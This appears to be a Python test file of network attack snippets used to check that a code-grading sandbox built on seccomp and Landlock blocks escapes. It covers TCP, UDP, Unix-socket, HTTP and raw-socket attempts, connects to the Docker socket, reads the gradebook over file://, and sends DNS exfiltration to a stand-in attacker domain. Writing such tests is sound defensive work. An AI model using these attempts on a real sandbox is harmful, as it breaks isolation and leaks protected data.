"""Attacks that talk to somebody else."""

# The text of an attack stays as it would be handed in.
# ruff: noqa: E501

from tests.attacks.attack import Attack, table
from tests.attacks.read import LIBC

ATTACKS: list[Attack] = table(
    "network",
    {
        # Without seccomp and Landlock.
        "tcp": """
            import socket
            for address in (("127.0.0.1", @TCP@), ("localhost", @TCP@)):
                with attempt():
                    socket.create_connection(address, timeout=1).sendall(b"hello")
            with attempt():
                socket.create_server(("0.0.0.0", 0))
            with attempt():
                socket.socket(socket.AF_INET6)
            """,
        # Without seccomp: Landlock knows TCP alone.
        "udp": """
            import socket
            with attempt():
                sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                sender.sendto(b"hello", ("127.0.0.1", @UDP@))
            """,
        # Without seccomp, or on a kernel whose Landlock has no scopes.
        "unix sockets": """
            import socket
            for address in ("\\0@ABSTRACT@", "@SOCKET@", "/run/docker.sock", "/run/dbus/system_bus_socket"):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    with attempt():
                        socket.socket(socket.AF_UNIX, kind).connect(address[:100])
            """,
        # Without seccomp.
        "http": """
            import ftplib, http.client, smtplib, urllib.request
            with attempt():
                urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=1)
            with attempt():
                http.client.HTTPConnection("127.0.0.1", @TCP@, timeout=1).request("GET", "/")
            with attempt():
                ftplib.FTP("127.0.0.1", timeout=1)
            with attempt():
                urllib.request.urlopen("file://@ROOT@/gradebook.db")
            """,
        # Without seccomp: a name that is asked for carries words out.
        "dns": """
            import socket
            for ask in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80)):
                with attempt():
                    ask("secret-words.attacker.invalid")
            """,
        # Without seccomp.
        "raw, netlink, packet and other sockets": """
            import socket
            for family in range(46):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
                    try:
                        socket.socket(family, kind)
                        print("a socket of family", family)
                    except OSError as error:
                        stopped = error
            with attempt():
                raise stopped
            """,
        # Without seccomp: by the channel itself, which leads to the judge.
        "descriptors over the channel": LIBC
        + """
import array, socket, stat
with attempt():
    left, right = socket.socketpair()
for number in range(3, 64):
    try:
        is_socket = stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        continue
    if is_socket:
        with attempt():
            channel = socket.socket(fileno=os.dup(number))
            channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
        with attempt():
            done(libc.connect(number, b"\\2\\0" + (@TCP@).to_bytes(2, "big") + b"\\x7f\\0\\0\\1" + bytes(8), 16))
        with attempt():
            done(libc.shutdown(number, 2))
""",
    },
)
